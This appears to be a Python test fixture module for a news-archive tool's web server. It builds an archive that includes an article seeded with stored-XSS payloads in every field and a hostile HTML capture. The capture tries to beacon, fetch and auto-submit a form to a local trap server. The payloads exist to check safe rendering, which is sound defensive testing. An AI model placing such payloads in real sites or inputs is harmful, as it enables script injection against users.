"""Shared material for the `telisik serve`, `stats`, `list` and `delete` tests: an archive with a
three-version article, an article whose every scraped field is hostile, a hostile capture, dated articles on
several sites; and the app itself running on a loopback port."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime, timedelta

from support.archive import open_archive
from support.articles import make_article, make_capture
from support.indonesian import WIB
from support.pages import CANONICAL, store_three_versions
from telisik.archive import store_article
from telisik.article import Article

PUPUK_URL = CANONICAL  # served from its own address: a canonical on another site would not be trusted

# Stored-XSS payloads, one kind per scraped field; each must come out as inert text.
SCRIPT = "<script>alert('xss-title')</script>"
TITLE_BREAK = "</title><script>alert('xss-title2')</script>"
IMG_ONERROR = '"><img src=x onerror=alert("xss-img")>'
JS_URL = "javascript:alert('xss-url')"
ANSI = "\x1b[31mMERAH\x1b[0m"
RTL = "\u202egnp.exe"  # RTL override: would show as "exe.png"
HOSTILE_TITLE = f"Banjir {SCRIPT}{TITLE_BREAK} Kudus"
HOSTILE_URL = "https://hostile.test/2026/02/10/banjir-kudus/"

# The trap: a URL on a loopback server a hostile capture tries to reach; `{trap}` is its base.
HOSTILE_CAPTURE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Banjir Kudus</title>
<meta http-equiv="refresh" content="1;url={trap}/refreshed">
<link rel="prefetch" href="{trap}/prefetch">
<link rel="stylesheet" href="{trap}/style.css">
<style>@import url("{trap}/import.css"); body {{ background: url("{trap}/bg.png"); }}</style>
<script src="{trap}/remote.js"></script>
<script>window.top.document.title = "PWNED"; fetch("{trap}/fetch"); new Image().src = "{trap}/beacon";</script>
</head>
<body onload="document.body.setAttribute('data-ran', 'onload')">
<h1 id="headline">Banjir Kudus: arsip asli</h1>
<p>Teks artikel yang diarsipkan.</p>
<img src="{trap}/remote-image.png" alt="gambar jarak jauh">
<form id="f" action="{trap}/form" method="post"><input name="secret" value="1"><button>Kirim</button></form>
<script>document.getElementById("f").submit();</script>
<iframe src="{trap}/frame.html"></iframe>
<object data="{trap}/object.swf"></object>
<video poster="{trap}/poster.png"></video>
<a id="outbound" href="{trap}/clicked">tautan</a>
</body></html>
"""


def _hostile_article(trap: str) -> Article:
    published = datetime(2026, 2, 10, 9, 30, tzinfo=WIB)
    capture = make_capture(
        HOSTILE_URL,
        HOSTILE_CAPTURE.format(trap=trap).encode(),
        headers={"content-type": "text/html; charset=utf-8", "x-evil": SCRIPT, "set-cookie": IMG_ONERROR},
        fetched_at=published + timedelta(hours=1),
    )
    return make_article(
        JS_URL,
        canonical_url=HOSTILE_URL,
        site="hostile.test",
        title=HOSTILE_TITLE,
        authors=[IMG_ONERROR, f"Budi {ANSI}"],
        editor=RTL,
        published=published,
        published_raw=TITLE_BREAK,
        body=f"Air sungai meluap {SCRIPT} di Kudus.\n\n{IMG_ONERROR} warga mengungsi ke balai desa.\n\n{ANSI} {RTL}",
        description=IMG_ONERROR,
        section=SCRIPT,
        tags=[SCRIPT, JS_URL],
        image=JS_URL,
        site_name=TITLE_BREAK,
        sources={"title": SCRIPT, "authors": IMG_ONERROR},
        fetched_at=published + timedelta(hours=1),
        parser_version="test",
        capture=capture,
    )


def dated_article(number: int, site: str, day: datetime, body: str) -> Article:
    """Article `number` of `site`, published on `day` (WIB), with a small page of its own."""
    url = f"https://{site}/{day:%Y/%m/%d}/berita-{number}/"
    return make_article(
        url,
        title=f"Berita nomor {number} dari {site.split('.')[0].title()}",
        body=body,
        authors=["Rina Kusumawati" if number % 2 else "Dwi Hartono"],
        published=day,
        fetched_at=day,
        parser_version="test",
    )


SITES = ("blora.example.id", "pati.example.id", "kudus.example.id")


def build_archive(path: str, trap: str = "http://127.0.0.1:9") -> dict[str, int]:
    """The test archive; returns ids by name: pupuk (3 versions), hostile, and `dated` count."""
    db = open_archive(path)
    ids = {"pupuk": store_three_versions(db, PUPUK_URL)}
    ids["hostile"] = store_article(db, _hostile_article(trap)).article_id
    start = datetime(2026, 1, 1, 8, 0, tzinfo=WIB)
    for number in range(30):
        words = "Polisi melakukan pengamanan di pasar." if number % 3 == 0 else "Harga cabai naik di pasar."
        article = dated_article(number, SITES[number % 3], start + timedelta(days=number * 2), words)
        store_article(db, article)
    ids["dated"] = 30
    db.conn.close()
    return ids


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@contextmanager
def running_app(db_path: str) -> Iterator[str]:
    """`telisik serve`'s app on a loopback port (uvicorn, in a thread); yields its base URL."""
    import uvicorn

    from telisik.web import create_app

    # uvicorn binds the port itself: with a socket handed to it, its connections were measured waiting on
    # delayed ACKs (~40 ms per keep-alive request) that `telisik serve` does not have.
    port = free_port()
    config = uvicorn.Config(
        create_app(db_path),
        host="127.0.0.1",
        port=port,
        log_level="critical",
        access_log=False,
        server_header=False,
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 10
    while not server.started:
        if time.monotonic() > deadline or not thread.is_alive():
            raise RuntimeError("the web app did not start")
        time.sleep(0.02)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(10)
